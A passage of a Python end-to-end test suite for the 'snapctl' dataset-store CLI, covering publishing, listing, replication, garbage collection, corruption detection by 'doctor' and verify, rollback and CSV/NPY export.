#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""End-to-end tests of snapctl: real processes on a temporary store under /dev/shm.

Each test makes its own store and removes it. Reader processes (pin_helper) pin a
version and hold it until their stdin is closed; the tests synchronise on their
output and exit, never on sleeps. JSON output is parsed, never grepped.

Run one test: SNAPCTL=... PIN_HELPER=... python3 cli_test.py CliTest.test_name
"""
import csv
import io
import json
import os
import re
import shlex
import shutil
import struct
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from snaptest import StoreCase  # noqa: E402

SNAPCTL = os.environ.get("SNAPCTL", "snapctl")


def npy_bytes(descr, shape, payload, fortran=False):
    """A .npy v1.0 file, written by hand (numpy is not needed)."""
    header = "{'descr': '%s', 'fortran_order': %s, 'shape': %s, }" % (
        descr, fortran, shape)
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def npy_parse(data):
    """(descr, fortran_order, shape, payload) of a .npy v1/v2 file."""
    assert data[:6] == b"\x93NUMPY", "bad magic"
    if data[6] == 1:
        (hlen,), start = struct.unpack("<H", data[8:10]), 10
    else:
        (hlen,), start = struct.unpack("<I", data[8:12]), 12
    header = data[start:start + hlen].decode()
    assert (start + hlen) % 64 == 0, "header not padded to 64 bytes"
    import ast
    d = ast.literal_eval(header)
    return d["descr"], d["fortran_order"], d["shape"], data[start + hlen:]


class CliTest(StoreCase, unittest.TestCase):
    def setUp(self):
        self.store = "/dev/shm/snapctl-test-%d-%s" % (os.getpid(), self._testMethodName)
        self.tmp = self.store + ".files"
        shutil.rmtree(self.store, ignore_errors=True)
        shutil.rmtree(self.tmp, ignore_errors=True)
        os.makedirs(self.tmp)
        self.procs = []

    def tearDown(self):
        for p in self.procs:
            if p.poll() is None:
                p.stdin.close()
                p.wait()
        shutil.rmtree(self.store, ignore_errors=True)
        shutil.rmtree(self.tmp, ignore_errors=True)

    # -------------------------------------------------------------- helpers

    def run_ctl(self, *args, code=0, store=True):
        argv = [SNAPCTL] + (["--store", self.store] if store else []) + list(args)
        p = subprocess.run(argv, capture_output=True, text=True)
        self.assertEqual(p.returncode, code,
                         "%s: exit %d, wanted %d\nstdout: %s\nstderr: %s" %
                         (" ".join(argv), p.returncode, code, p.stdout, p.stderr))
        if code:
            # one line on stderr, naming the program
            self.assertEqual(p.stderr.count("\n"), 1, p.stderr)
            self.assertTrue(p.stderr.startswith("snapctl"), p.stderr)
        return p

    def json(self, *args):
        return json.loads(self.run_ctl(*args).stdout)

    def unpin(self, p):
        p.stdin.close()
        self.assertEqual(p.wait(), 0)

    def versions(self, dataset):
        doc = self.json("list", dataset, "--json")
        return {v["version"]: v for v in doc["datasets"][0]["versions"]}

    def segment_files(self):
        out = []
        for root, _, files in os.walk(os.path.join(self.store, "segments")):
            out += [os.path.join(root, f) for f in files]
        return sorted(out)

    # ---------------------------------------------------------------- usage

    def test_usage_errors(self):
        self.run_ctl(code=2)
        self.run_ctl("frobnicate", code=2)
        self.run_ctl("--bogus", "list", code=2)
        self.run_ctl("list", "--bogus", code=2)
        self.run_ctl("info", code=2)
        self.run_ctl("info", "a", "b", code=2)
        self.run_ctl("info", "a@", code=2)
        self.run_ctl("info", "a@0", code=2)
        self.run_ctl("rollback", "a", code=2)
        self.run_ctl("rollback", "a", "x1", code=2)
        self.run_ctl("export", "a", code=2)  # no --format
        self.run_ctl("export", "a", "--format", "xml", code=2)
        self.run_ctl("publish", "a", code=2)
        self.run_ctl("publish", "a", "file.parquet", code=2)
        self.run_ctl("init", "--keep", "0", code=2)
        p = self.run_ctl("gc", "--dry-run", "a", "b", code=2)
        self.assertIn("snapctl gc --help", p.stderr)
        top = self.run_ctl("--help").stdout
        for cmd in ["init", "list", "info", "readers", "gc", "publish", "rollback", "verify",
                    "export", "doctor", "drop"]:
            self.assertIn(cmd, top)
            out = self.run_ctl(cmd, "--help").stdout
            self.assertTrue(out.startswith("usage: snapctl [--store PATH] " + cmd), out)

    def test_missing_store(self):
        for cmd in (["list"], ["readers"], ["gc"], ["info", "x"], ["verify", "x"]):
            p = self.run_ctl(*cmd, code=1)
            self.assertIn(self.store, p.stderr)
            self.assertIn("init", p.stderr)
        self.assertFalse(os.path.exists(self.store), "a read command created the store")
        p = self.run_ctl("doctor", code=1)
        self.assertIn("fix: snapctl --store %s init" % self.store, p.stdout)

    def test_init(self):
        p = self.run_ctl("init", "--keep", "2")
        self.assertIn("created store " + self.store, p.stdout)
        p = self.run_ctl("init")
        self.assertIn("existing store", p.stdout)
        self.run_ctl("publish", "d", self.write("a.csv", "x\n1\n"))
        self.assertEqual(self.json("list", "--json")["datasets"][0]["keep"], 2)
        # the environment variable names the default store
        env = dict(os.environ, LIBSNAP_STORE=self.store)
        p = subprocess.run([SNAPCTL, "list", "--json"], env=env, capture_output=True,
                           text=True)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(json.loads(p.stdout)["store"], self.store)

    def test_init_max_datasets(self):
        p = self.run_ctl("init", "--max-datasets", "2")
        self.assertIn("(at most 2 datasets)", p.stdout)
        csv = self.write("a.csv", "x\n1\n")
        self.run_ctl("publish", "a", csv)
        self.run_ctl("publish", "b", csv)
        p = self.run_ctl("publish", "c", csv, code=1)
        self.assertIn('dataset "c" would be dataset 3 of at most 2', p.stderr)
        self.assertEqual(p.stderr.count("\n"), 1)
        self.run_ctl("publish", "a", csv)  # a new version of an existing one
        doc = self.json("list", "--json")
        self.assertEqual(doc["max_datasets"], 2)
        self.assertEqual([d["name"] for d in doc["datasets"]], ["a", "b"])
        self.assertIn("2 of at most 2 datasets", self.run_ctl("list").stdout)
        self.run_ctl("init", "--max-datasets", "0")
        self.run_ctl("publish", "c", csv)
        self.assertEqual(self.json("list", "--json")["max_datasets"], 0)
        self.run_ctl("init", "--max-datasets", "x", code=2)

    # ------------------------------------------------------ publish and list

    def test_publish_list_info(self):
        self.run_ctl("init", "--keep", "3")
        path = self.write("prices.csv", "id,price,name\n1,1.5,a\n2,2.5,b\n3,3.5,c\n")
        p = self.run_ctl("publish", "prices", path)
        self.assertRegex(p.stdout, r"prices: published version 1 \(3 rows x 3 columns")
        self.run_ctl("publish", "prices", path)
        self.run_ctl("publish", "other", self.write("o.npy", npy_bytes(
            "<f8", "(4,)", struct.pack("<4d", 1, 2, 3, 4))))

        doc = self.json("list", "--json")
        self.assertEqual(doc["store"], self.store)
        self.assertEqual([d["name"] for d in doc["datasets"]], ["other", "prices"])
        prices = doc["datasets"][1]
        self.assertEqual(prices["current"], 2)
        self.assertEqual(prices["keep"], 3)
        self.assertEqual([(v["version"], v["state"], v["rows"], v["cols"], v["pins"])
                          for v in prices["versions"]],
                         [(1, "retained", 3, 3, 0), (2, "current", 3, 3, 0)])
        for v in prices["versions"]:
            self.assertGreater(v["bytes"], 0)
            self.assertRegex(v["created"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")
        # version 2 has version 1's data: it holds only its manifest, shares the rest
        v1, v2 = prices["versions"]
        self.assertEqual(v1["shared_bytes"], 0)
        self.assertGreater(v2["shared_bytes"], 0)
        self.assertGreaterEqual(v2["size"], v2["shared_bytes"])
        self.assertLess(v2["bytes"], v1["bytes"])
        total = sum(v["bytes"] for d in doc["datasets"] for v in d["versions"])
        self.assertEqual(doc["totals"]["bytes"], total)
        self.assertEqual(doc["totals"]["versions"], 3)
        self.assertEqual(doc["totals"]["reclaimable_bytes"], 0)

        # human output: an aligned table (each header starts where its column starts)
        lines = self.run_ctl("list").stdout.splitlines()
        header, rows = lines[0], lines[1:4]
        self.assertEqual(header.split(), ["DATASET", "VERSION", "STATE", "ROWS", "COLS",
                                          "BYTES", "SHARED", "CREATED", "PINS"])
        state_at = header.index("STATE")
        for row in rows:
            self.assertIn(row[state_at:state_at + 8].strip(), ("current", "retained"))
            self.assertTrue(row.endswith(" 0"), row)
        self.assertIn("3 versions", lines[-1])
        self.run_ctl("list", "nosuch", code=1)

        info = self.json("info", "prices", "--json")
        self.assertEqual(info["version"], 2)
        self.assertEqual(info["state"], "current")
        self.assertEqual([(c["name"], c["type"]) for c in info["columns"]],
                         [("id", "int64"), ("price", "float64"), ("name", "string")])
        self.assertTrue(os.path.exists(info["segment"]))
        self.assertRegex(info["data_hash"], r"^[0-9a-f]{32}$")
        info1 = self.json("info", "prices@1", "--json")
        self.assertEqual(info1["version"], 1)
        self.assertEqual(info1["data_hash"], info["data_hash"])  # same data
        human = self.run_ctl("info", "prices@1").stdout
        self.assertIn("segment:    " + info1["segment"], human)
        self.assertRegex(human, r"\n2  name   string   no")
        self.run_ctl("info", "prices@9", code=1)
        self.run_ctl("info", "nosuch", code=1)

    def test_republish_shares_and_compact(self):
        # a CSV republished with one value changed: the new version holds that
        # chunk only; compact makes a version that shares nothing, and once
        # retention lets them go the older files are reclaimed
        self.run_ctl("init", "--keep", "1")
        rows = "".join(f"{i},{i * 0.5},{i % 7}\n" for i in range(200000))
        path = self.write("t.csv", "a,b,c\n" + rows)
        self.run_ctl("publish", "t", path)
        path = self.write("t.csv", "a,b,c\n" + rows.replace("\n5,2.5,5\n", "\n5,9.5,5\n"))
        self.run_ctl("publish", "t", path)
        v1, v2 = self.json("list", "--json")["datasets"][0]["versions"]
        self.assertEqual((v1["state"], v2["state"]), ("lending", "current"))
        self.assertLess(v2["bytes"], v1["bytes"] // 10)
        self.assertGreater(v2["shared_bytes"], 0)
        self.assertIn("lending", self.run_ctl("list").stdout)
        info = self.json("info", "t", "--json")
        self.assertEqual(info["shared_bytes"], v2["shared_bytes"])
        self.assertGreater(info["mappings"], 1)
        self.assertIn("shared with earlier versions", self.run_ctl("info", "t").stdout)
        p = self.run_ctl("compact", "t")
        self.assertIn("t: version 3 holds all its data (compacted from 2)", p.stdout)
        self.run_ctl("gc")
        (v3,) = self.json("list", "--json")["datasets"][0]["versions"]
        self.assertEqual((v3["version"], v3["shared_bytes"]), (3, 0))
        self.assertEqual(self.run_ctl("verify", "t").returncode, 0)
        out = subprocess.run([SNAPCTL, "--store", self.store, "export", "t", "--format",
                              "csv"], capture_output=True, text=True).stdout
        self.assertIn("\n5,9.5,5\n", out)
        info = self.json("info", "t", "--json")
        self.assertEqual((info["shared_bytes"], info["mappings"]), (0, 1))
        self.run_ctl("compact", "nosuch", code=1)
        self.run_ctl("compact", code=2)

    def test_push_pull_unfollow(self):
        # a primary pushes to a directory remote, a second store pulls from it: the
        # same data under the same version numbers, followed (local publishes
        # refused) until unfollow; a change travels as a delta
        remote = os.path.join(self.tmp, "remote")
        other = self.store + ".follower"
        self.addCleanup(shutil.rmtree, other, True)
        self.run_ctl("init")
        rows = "".join(f"{i},{i * 0.5}\n" for i in range(100000))
        self.run_ctl("publish", "t", self.write("t.csv", "a,b\n" + rows))
        p = self.run_ctl("push", remote)
        self.assertRegex(p.stdout, r"^t: version 1 pushed: (\d+) of \1 chunks new")
        self.assertIn("t: version 1 is announced already", self.run_ctl("push", remote).stdout)
        p = self.run_ctl("--store", other, "pull", remote, store=False)
        self.assertRegex(p.stdout, r"^t: version 1 adopted: \d+ chunks fetched \(0 as deltas")
        ours = self.json("list", "--json")["datasets"][0]
        theirs = json.loads(self.run_ctl("--store", other, "list", "--json",
                                         store=False).stdout)["datasets"][0]
        self.assertEqual(theirs["current"], 1)
        self.assertTrue(theirs["followed"])
        self.assertFalse(ours["followed"])
        self.assertEqual(theirs["versions"][0]["created_ns"], ours["versions"][0]["created_ns"])
        self.run_ctl("--store", other, "verify", "t", store=False)
        # one value changed: one chunk new, fetched as a delta
        self.run_ctl("publish", "t", self.write("t.csv", "a,b\n" + rows.replace(
            "\n5,2.5\n", "\n5,9.5\n")))
        self.assertIn("1 of", self.run_ctl("push", remote).stdout)
        p = self.run_ctl("--store", other, "pull", remote, store=False)
        self.assertIn("t: version 2 adopted: 1 chunks fetched (1 as deltas", p.stdout)
        self.assertIn("followed", self.run_ctl("--store", other, "list", store=False).stdout)
        out = subprocess.run([SNAPCTL, "--store", other, "export", "t", "--format", "csv"],
                             capture_output=True, text=True).stdout
        self.assertIn("\n5,9.5\n", out)
        # followed: a local publish is refused, with the way out in the message
        p = self.run_ctl("--store", other, "publish", "--direct", "t",
                         self.write("u.csv", "a,b\n1,2\n"), code=1, store=False)
        self.assertIn("snapctl unfollow t", p.stderr)
        self.run_ctl("--store", other, "unfollow", "t", store=False)
        self.run_ctl("--store", other, "publish", "--direct", "t",
                     self.write("u.csv", "a,b\n1,2\n"), store=False)
        self.assertEqual(json.loads(self.run_ctl("--store", other, "list", "--json",
                                                 store=False).stdout)
                         ["datasets"][0]["current"], 3)
        # errors: a remote that is neither, an unknown dataset, bad options
        self.run_ctl("push", "s3://", code=1)
        self.run_ctl("pull", remote, "nosuch", code=1)
        self.run_ctl("push", code=2)
        self.run_ctl("push", "--transfers", "0", remote, code=2)
        self.run_ctl("unfollow", "nosuch", code=1)

    def test_append_npy(self):
        self.run_ctl("init")
        n, k = 100000, 4
        def npy(rows, start):
            vals = [float(start + r) * 10 + c for r in range(rows) for c in range(k)]
            return npy_bytes("<f8", f"({rows}, {k})", struct.pack(f"<{rows * k}d", *vals))
        self.run_ctl("publish", "m", self.write("a.npy", npy(n, 0)))
        p = self.run_ctl("publish", "--append", "m", self.write("b.npy", npy(1000, n)))
        self.assertIn("m: appended rows as version 2 (1000 rows x 4 columns", p.stdout)
        self.run_ctl("publish", "--append", "m", self.write("c.npy", npy(1000, n + 1000)))
        v = {x["version"]: x for x in self.json("list", "--json")["datasets"][0]["versions"]}
        self.assertEqual(v[3]["rows"], n + 2000)
        # the second append found room: it holds the new rows' chunks, not the table
        self.assertLess(v[3]["bytes"], v[1]["bytes"] // 4)
        self.assertGreater(v[3]["shared_bytes"], 0)
        self.assertEqual(self.run_ctl("verify", "m").returncode, 0)
        out = subprocess.run([SNAPCTL, "--store", self.store, "export", "m", "--format",
                              "csv"], capture_output=True, text=True).stdout.splitlines()
        self.assertEqual(len(out), 1 + n + 2000)
        self.assertEqual([float(x) for x in out[n + 1500].split(",")],
                         [float(n + 1499) * 10 + c for c in range(k)])
        # the wrong shape, a CSV, a string table: clear errors, nothing published
        p = self.run_ctl("publish", "--append", "m",
                         self.write("d.npy", npy_bytes("<f8", "(2, 3)", bytes(48))), code=1)
        self.assertIn("3 columns, the dataset \"m\" has 4", p.stderr)
        p = self.run_ctl("publish", "--append", "m", self.write("e.csv", "a\n1\n"), code=2)
        self.assertIn("--append takes .npy input", p.stderr)
        self.run_ctl("publish", "s", self.write("s.csv", "a\nx\n"))
        p = self.run_ctl("publish", "--append", "s",
                         self.write("f.npy", npy_bytes("<f8", "(1, 1)", bytes(8))), code=1)
        self.assertIn("publish the whole table", p.stderr)
        self.assertEqual(self.json("info", "m", "--json")["version"], 3)

    def test_readers_see_each_version(self):
        self.run_ctl("init")
        sums = []
        for i in range(1, 4):
            rows = "\n".join(str(i * 100 + r) for r in range(10))
            self.run_ctl("publish", "d", self.write("d%d.csv" % i, "v\n" + rows + "\n"))
            p, version, nrows, total = self.pin("d")
            self.assertEqual((version, nrows), (i, 10))
            self.assertEqual(total, sum(i * 100 + r for r in range(10)))
            sums.append(total)
            self.unpin(p)
        self.assertEqual(len(set(sums)), 3)

    # ---------------------------------------------------- readers, gc, doctor

    def test_readers_gc_doctor(self):
        self.run_ctl("init", "--keep", "1")
        self.run_ctl("publish", "d", self.write("a.csv", "v\n1\n2\n"))
        holder, version, _, _ = self.pin("d")
        self.assertEqual(version, 1)
        self.run_ctl("publish", "d", self.write("b.csv", "v\n3\n4\n5\n"))

        v = self.versions("d")
        self.assertEqual(v[1]["state"], "draining")
        self.assertEqual(v[1]["pins"], 1)
        self.assertEqual(v[2]["state"], "current")
        self.assertEqual(self.json("list", "--json")["totals"]["draining_pinned_bytes"],
                         v[1]["bytes"])

        readers = self.json("readers", "--json")["readers"]
        self.assertEqual(len(readers), 1)
        r = readers[0]
        self.assertEqual((r["pid"], r["dataset"], r["version"], r["state"]),
                         (holder.pid, "d", 1, "draining"))
        self.assertIn("pin_helper", r["command"])
        self.assertIn(self.store, r["command"])
        self.assertIsInstance(r["since_ns"], int)
        human = self.run_ctl("readers").stdout
        self.assertRegex(human, r"(?m)^\s*%d\s" % holder.pid)

        p = self.run_ctl("gc", "--dry-run")
        self.assertRegex(p.stdout, r"draining\s+d@1 .*held by %d \(.*pin_helper" % holder.pid)
        p = self.run_ctl("gc")
        self.assertIn("freed 0 versions", p.stdout)
        self.assertIn(1, self.versions("d"))
        p = self.run_ctl("doctor", code=1)
        self.assertIn("stale pin: d@1", p.stdout)
        self.assertIn("kill %d" % holder.pid, p.stdout)

        self.unpin(holder)
        self.assertEqual(self.json("readers", "--json")["readers"], [])
        p = self.run_ctl("gc", "--dry-run")
        self.assertRegex(p.stdout, r"would free\s+d@1")
        self.assertIn(1, self.versions("d"))  # a dry run changes nothing
        p = self.run_ctl("gc")
        self.assertRegex(p.stdout, r"freed\s+d@1")
        self.assertIn("freed 1 version", p.stdout)
        self.assertEqual(list(self.versions("d")), [2])
        self.assertEqual(len(self.segment_files()), 1)
        p = self.run_ctl("doctor")
        self.assertIn("0 problems", p.stdout)

    def test_doctor_orphans(self):
        self.run_ctl("init")
        self.run_ctl("publish", "d", self.write("a.csv", "v\n1\n"))
        seg = self.segment_files()[0]
        orphan = os.path.join(os.path.dirname(seg), "77.seg")
        shutil.copyfile(seg, orphan)
        p = self.run_ctl("doctor", code=1)
        self.assertIn("orphan: %s" % orphan, p.stdout)
        self.assertIn("fix: snapctl gc", p.stdout)
        self.assertTrue(os.path.exists(orphan))  # doctor changes nothing
        self.run_ctl("gc")
        self.assertFalse(os.path.exists(orphan))
        self.run_ctl("doctor")
        # a file that is not a segment (here one doctor --deep would set aside) is
        # kept by every sweep: doctor reports it as advice, not as a problem
        kept = os.path.join(os.path.dirname(seg), "5.seg.damaged")
        shutil.copyfile(seg, kept)
        p = self.run_ctl("doctor")
        self.assertIn("kept file: %s" % kept, p.stdout)
        self.assertIn("rm '%s'" % kept, p.stdout)
        self.assertIn("orphans: none", p.stdout)
        self.run_ctl("gc")
        self.assertTrue(os.path.exists(kept))

    def seg_path(self, dataset, version):
        return os.path.join(self.store, "segments", dataset, "%d.seg" % version)

    def flip_byte(self, path, offset):
        with open(path, "r+b") as f:
            f.seek(offset)
            b = f.read(1)
            f.seek(offset)
            f.write(bytes([b[0] ^ 0xff]))

    def test_doctor_segments(self):
        """doctor pins every kept version as a reader would; --deep checks data."""
        self.run_ctl("init", "--keep", "3")
        for i in range(3):
            self.run_ctl("publish", "d", self.write("%d.csv" % i, "v\n%d\n%d\n" % (i, i)))
        self.assertIn("3 kept versions pass", self.run_ctl("doctor").stdout)
        # a data byte of version 2 (retained): only --deep reads the data
        seg2 = self.seg_path("d", 2)
        with open(seg2, "rb") as f:
            data_offset = struct.unpack("<Q", f.read(80)[72:80])[0]
        self.flip_byte(seg2, data_offset)
        self.run_ctl("doctor")
        p = self.run_ctl("doctor", "--deep", code=1)
        self.assertIn("segment: d@2 (retained)", p.stdout)
        self.assertIn(seg2, p.stdout)
        self.assertIn("SNAP_ECHECKSUM", p.stdout)
        self.assertIn("fix: do not roll back to d@2", p.stdout)
        self.flip_byte(seg2, data_offset)
        self.run_ctl("doctor", "--deep")
        # the header checksum of retained version 1
        seg1 = self.seg_path("d", 1)
        self.flip_byte(seg1, 128)
        p = self.run_ctl("doctor", code=1)
        self.assertIn("segment: d@1 (retained)", p.stdout)
        self.assertIn(seg1, p.stdout)
        self.assertIn("1 problem,", p.stdout)
        # the current version truncated: roll back to the newest good retained one
        seg3 = self.seg_path("d", 3)
        os.truncate(seg3, os.path.getsize(seg3) - 64)
        p = self.run_ctl("doctor", code=1)
        self.assertIn("segment: d@3 (current)", p.stdout)
        self.assertIn(seg3, p.stdout)
        self.assertIn("fix: snapctl rollback d 2", p.stdout)
        self.assertIn("2 problems,", p.stdout)
        self.assertIn("2 problems found", p.stderr)
        self.run_ctl("rollback", "d", "2")
        self.run_ctl("drop", "d")
        self.assertIn("0 problems", self.run_ctl("doctor").stdout)

    def test_drop(self):
        self.run_ctl("init", "--keep", "2", "--max-datasets", "2")
        self.run_ctl("publish", "d", self.write("a.csv", "v\n1\n"))
        self.run_ctl("publish", "d", self.write("b.csv", "v\n2\n"))
        self.run_ctl("publish", "e", self.write("c.csv", "v\n3\n"))
        holder, version, _, _ = self.pin("d", 1)
        p = self.run_ctl("drop", "d", code=1)
        self.assertIn("version 1 of \"d\" is pinned by pid %d" % holder.pid, p.stderr)
        self.assertIn(self.seg_path("d", 1), p.stderr)
        self.assertEqual(sorted(self.versions("d")), [1, 2])
        self.unpin(holder)
        p = self.run_ctl("drop", "d")
        self.assertIn("d: dropped", p.stdout)
        names = [x["name"] for x in self.json("list", "--json")["datasets"]]
        self.assertEqual(names, ["e"])
        self.assertEqual([f for f in self.segment_files() if f.endswith(".seg")],
                         [self.seg_path("e", 1)])
        self.run_ctl("drop", "d", code=1)
        # the limit of 2 has room again; numbers go on where the old d stopped
        self.run_ctl("publish", "d", self.write("d.csv", "v\n4\n"))
        self.assertEqual(list(self.versions("d")), [3])
        holder, _, _, _ = self.pin("d")
        self.run_ctl("drop", "--force", "d")
        self.unpin(holder)  # it read its version to the end
        self.run_ctl("drop", code=2)
        self.run_ctl("drop", "a", "b", code=2)

    def test_number_ranges(self):
        """Out-of-range numbers are usage errors naming the option and the value."""
        self.run_ctl("init")
        self.run_ctl("publish", "d", self.write("a.csv", "v\n1\n"))
        for target in ["d@18446744073709551616", "d@-1", "d@+1", "d@1.5", "d@0"]:
            p = self.run_ctl("info", target, code=2)
            self.assertIn("version in '%s'" % target, p.stderr)
            self.assertIn("from 1 to 18446744073709551615", p.stderr)
        self.run_ctl("info", "d@1")
        for v in ["-1", "0", "18446744073709551616", "1e3", " 1"]:
            p = self.run_ctl("rollback", "--", "d", v, code=2)
            self.assertIn("VERSION: '%s' is not an integer" % v, p.stderr)
        p = self.run_ctl("rollback", "d", "18446744073709551615", code=1)
        self.assertIn("does not exist", p.stderr)
        for opt, v in [("--keep", "-1"), ("--keep", "4294967296"), ("--keep", "0"),
                       ("--max-datasets", "-1"), ("--max-datasets", "4294967296")]:
            p = self.run_ctl("init", opt, v, code=2)
            self.assertIn("%s: '%s'" % (opt, v), p.stderr)
        for opt, v in [("--threads", "0"), ("--threads", "9"), ("--threads", "-1"),
                       ("--category-max", "4294967296")]:
            p = self.run_ctl("publish", opt, v, "d", self.write("b.csv", "v\n2\n"), code=2)
            self.assertIn("%s: '%s'" % (opt, v), p.stderr)
        self.assertEqual(list(self.versions("d")), [1])

    def test_dataset_names(self):
        self.run_ctl("init")
        f = self.write("a.csv", "v\n1\n")
        for bad in ["a b", "x@1", "a\nb", "caf\u00e9", ".x"]:
            p = self.run_ctl("publish", bad, f, code=1)
            self.assertIn("start with '.'" if bad == ".x" else "ASCII letters, digits",
                          p.stderr)
        p = self.run_ctl("publish", "a\nb", f, code=1)
        self.assertIn('"a\\x0ab"', p.stderr)
        self.assertEqual(self.json("list", "--json")["datasets"], [])
        self.run_ctl("publish", "Good_name-2.v1", f)

    def test_doctor_control_file(self):
        self.run_ctl("init")
        self.run_ctl("publish", "d", self.write("a.csv", "v\n1\n"))
        control = os.path.join(self.store, "control.mdb")
        with open(control, "r+b") as f:
            f.write(b"Z" * 4096)  # corrupted
        p = self.run_ctl("doctor", code=1)
        self.assertIn("control.mdb", p.stdout)
        self.assertIn("fix: stop writerd and every publisher, then snapctl --store %s doctor "
                      "--rebuild" % self.store, p.stdout)
        self.assertIn("the store does not open", p.stderr)
        os.unlink(control)  # deleted
        p = self.run_ctl("doctor", code=1)
        self.assertIn("snapctl --store %s doctor --rebuild" % self.store, p.stdout)
        p = self.run_ctl("doctor", "--rebuild")
        self.assertIn("recorded  d@1 current", p.stdout)
        self.assertEqual(self.versions("d")[1]["state"], "current")
        self.run_ctl("doctor")

    def test_control_file_lost_or_damaged(self):
        """Bugs 3 and 4 of issue 11: no tool creates a store over segments or crashes."""
        self.run_ctl("init")
        for i in (1, 2, 3):
            self.run_ctl("publish", "d", self.write("%d.csv" % i, "v\n%d\n" % i))
        segs = self.segment_files()
        control = os.path.join(self.store, "control.mdb")
        with open(control, "rb") as f:
            good = f.read()
        cases = [("deleted", None), ("truncated", b"")]
        for page in range(len(good) // 4096):  # each page overwritten in turn
            bad = bytearray(good)
            bad[page * 4096:(page + 1) * 4096] = bytes([0x5a]) * 4096
            cases.append(("page %d" % page, bytes(bad)))
        refused = 0
        for name, content in cases:
            if content is None:
                os.unlink(control)
            else:
                with open(control, "wb") as f:
                    f.write(content)
            for args in (("list",), ("info", "d"), ("gc",), ("init",), ("doctor",)):
                argv = [SNAPCTL, "--store", self.store] + list(args)
                p = subprocess.run(argv, capture_output=True, text=True)
                self.assertIn(p.returncode, (0, 1), (name, args, p.returncode, p.stderr))
                if p.returncode == 1 and args[0] != "doctor":
                    refused += 1
                    self.assertIn("control.mdb", p.stderr, (name, args))
                    self.assertIn("doctor --rebuild", p.stderr, (name, args))
            self.assertEqual(self.segment_files(), segs, name)  # nothing swept
        self.assertGreater(refused, 0)
        p = self.run_ctl("doctor", "--rebuild")
        self.assertIn("recorded  d@3 current", p.stdout)
        self.assertEqual({k: v["state"] for k, v in self.versions("d").items()},
                         {2: "retained", 3: "current"})
        self.run_ctl("publish", "d", self.write("4.csv", "v\n4\n"))
        self.assertIn(4, self.versions("d"))  # never a reused number

    # ----------------------------------------------------- rollback, verify

    def test_rollback(self):
        self.run_ctl("init", "--keep", "3")
        for i in (1, 2, 3):
            self.run_ctl("publish", "d", self.write("%d.csv" % i, "v\n%d\n" % i))
        p = self.run_ctl("rollback", "d", "1")
        self.assertIn("current version is now 1 (was 3)", p.stdout)
        states = {k: v["state"] for k, v in self.versions("d").items()}
        self.assertEqual(states, {1: "current", 2: "retained", 3: "retained"})
        h, version, _, total = self.pin("d")
        self.assertEqual((version, total), (1, 1.0))
        self.unpin(h)
        p = self.run_ctl("rollback", "d", "42", code=1)
        self.assertIn("d@42", p.stderr)
        self.run_ctl("rollback", "nosuch", "1", code=1)

    def test_verify(self):
        self.run_ctl("init")
        marker = struct.pack("<d", 1.2345678901234567e300)
        self.run_ctl("publish", "d", self.write("a.npy", npy_bytes(
            "<f8", "(64,)", marker * 64)))
        p = self.run_ctl("verify", "d")
        self.assertRegex(p.stdout, r"^d@1: ok")
        self.run_ctl("verify", "d@1")
        self.run_ctl("verify", "d@2", code=1)
        seg = self.segment_files()[0]
        with open(seg, "r+b") as f:
            data = f.read()
            at = data.index(marker) + 8 * 10
            f.seek(at)
            f.write(struct.pack("<d", 1.0))
        p = self.run_ctl("verify", "d", code=1)
        self.assertIn("checksum", p.stderr)

    # --------------------------------------------------------------- export

    def test_export_csv_round_trip(self):
        self.run_ctl("init")
        text = ('i,f,b,t,tz,s,c,n\n'
                '1,0.1,true,2024-01-01T10:00:00.5,2024-01-01T00:00:00Z,"a,b",red,\n'
                '-2,1e300,false,2024-01-02,2024-01-01T00:00:00+02:00,"say ""hi""",red,1\n'
                ',NaN,true,,2024-06-01T00:00:00Z,"two\nlines",blue,2\n'
                '4,-0.333333333333,false,1999-12-31T23:59:59.999999999,'
                '2024-06-01T00:00:00Z,"",red,3\n')
        self.run_ctl("publish", "d", self.write("in.csv", text))
        out = os.path.join(self.tmp, "out.csv")
        self.run_ctl("export", "d", "--format", "csv", "-o", out)
        with open(out, newline="") as f:
            rows = list(csv.reader(f))
        self.assertEqual(rows[0], ["i", "f", "b", "t", "tz", "s", "c", "n"])
        self.assertEqual([r[0] for r in rows[1:]], ["1", "-2", "", "4"])
        self.assertEqual(float(rows[2][1]), 1e300)
        self.assertEqual(rows[3][1], "NaN")
        self.assertEqual(rows[1][3], "2024-01-01T10:00:00.5")
        self.assertEqual(rows[2][4], "2023-12-31T22:00:00Z")
        self.assertEqual([r[5] for r in rows[1:]], ["a,b", 'say "hi"', "two\nlines", ""])
        self.assertEqual([r[6] for r in rows[1:]], ["red", "red", "blue", "red"])
        # publishing the export again gives the same data, bit for bit
        self.run_ctl("publish", "d", out)
        a, b = self.json("info", "d@1", "--json"), self.json("info", "d@2", "--json")
        self.assertEqual([(c["name"], c["type"]) for c in a["columns"]],
                         [(c["name"], c["type"]) for c in b["columns"]])
        self.assertEqual(a["data_hash"], b["data_hash"])
        # standard output
        p = self.run_ctl("export", "d@1", "--format", "csv")
        with open(out) as f:
            self.assertEqual(p.stdout, f.read())

    def test_export_npy(self):
        self.run_ctl("init")
        values = [float(i) * 0.5 for i in range(12)]  # C order (6, 2)
        self.run_ctl("publish", "m", self.write("m.npy", npy_bytes(
            "<f8", "(6, 2)", struct.pack("<12d", *values))))
        out = os.path.join(self.tmp, "out.npy")
        self.run_ctl("export", "m", "--format", "npy", "-o", out)
        with open(out, "rb") as f:
            descr, fortran, shape, payload = npy_parse(f.read())
        self.assertEqual((descr, fortran, shape), ("<f8", True, (6, 2)))
        got = struct.unpack("<12d", payload)
        self.assertEqual(list(got[:6]), values[0::2])  # column 0
        self.assertEqual(list(got[6:]), values[1::2])  # column 1
        # re-publish the Fortran-ordered export: same data
        self.run_ctl("publish", "m", out)
        self.assertEqual(self.json("info", "m@1", "--json")["data_hash"],
                         self.json("info", "m@2", "--json")["data_hash"])
        # mixed types: a structured array
        self.run_ctl("publish", "x", self.write("x.csv", "a,b\n1,true\n2,false\n"))
        self.run_ctl("export", "x", "--format", "npy", "-o", out)
        with open(out, "rb") as f:
            descr, fortran, shape, payload = npy_parse(f.read())
